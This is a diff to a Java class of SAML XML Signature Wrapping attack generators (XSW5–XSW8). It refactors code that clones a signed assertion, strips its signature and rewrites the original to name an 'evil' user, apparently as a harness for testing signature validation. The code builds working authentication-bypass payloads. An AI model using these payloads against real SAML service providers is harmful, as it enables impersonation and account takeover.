@@ -85,9 +85,7 @@ public final class Attacks {
     public static Consumer<Document> xsw5() {
         return d -> {
             Element assertion = assertion(d);
-            Element original = (Element) assertion.cloneNode(true);
-            original.removeChild(child(original, DSIG, "Signature"));
-            makeEvil(assertion);
+            Element original = unsignedCopyThenEvil(assertion);
             d.getDocumentElement().appendChild(original);
         };
     }
@@ -96,9 +94,7 @@ public final class Attacks {
     public static Consumer<Document> xsw6() {
         return d -> {
             Element assertion = assertion(d);
-            Element original = (Element) assertion.cloneNode(true);
-            original.removeChild(child(original, DSIG, "Signature"));
-            makeEvil(assertion);
+            Element original = unsignedCopyThenEvil(assertion);
             child(assertion, DSIG, "Signature").appendChild(original);
         };
     }
@@ -106,14 +102,10 @@ public final class Attacks {
     /** XSW7: an Extensions block carries an unsigned copy; the Assertion itself is changed. */
     public static Consumer<Document> xsw7() {
         return d -> {
-            Element assertion = assertion(d);
-            Element original = (Element) assertion.cloneNode(true);
-            original.removeChild(child(original, DSIG, "Signature"));
             Element extensions = d.createElementNS(SAMLP, "samlp:Extensions");
-            extensions.appendChild(original);
+            extensions.appendChild(unsignedCopyThenEvil(assertion(d)));
             Element response = d.getDocumentElement();
             response.insertBefore(extensions, child(response, SAMLP, "Status"));
-            makeEvil(assertion);
         };
     }
 
@@ -121,12 +113,9 @@ public final class Attacks {
     public static Consumer<Document> xsw8() {
         return d -> {
             Element assertion = assertion(d);
-            Element original = (Element) assertion.cloneNode(true);
-            original.removeChild(child(original, DSIG, "Signature"));
             Element object = d.createElementNS(DSIG, "ds:Object");
-            object.appendChild(original);
+            object.appendChild(unsignedCopyThenEvil(assertion));
             child(assertion, DSIG, "Signature").appendChild(object);
-            makeEvil(assertion);
         };
     }
 
@@ -280,6 +269,14 @@ public final class Attacks {
         e.appendChild(d.createTextNode(before));
         e.appendChild(separator);
         e.appendChild(d.createTextNode(after));
+    }
+
+    /** An unsigned copy of the original assertion (same ID); the signed assertion itself then names the evil user. */
+    private static Element unsignedCopyThenEvil(Element assertion) {
+        Element original = (Element) assertion.cloneNode(true);
+        original.removeChild(child(original, DSIG, "Signature"));
+        makeEvil(assertion);
+        return original;
     }
 
     private static Element evilCopy(Element assertion, boolean withoutSignature) {
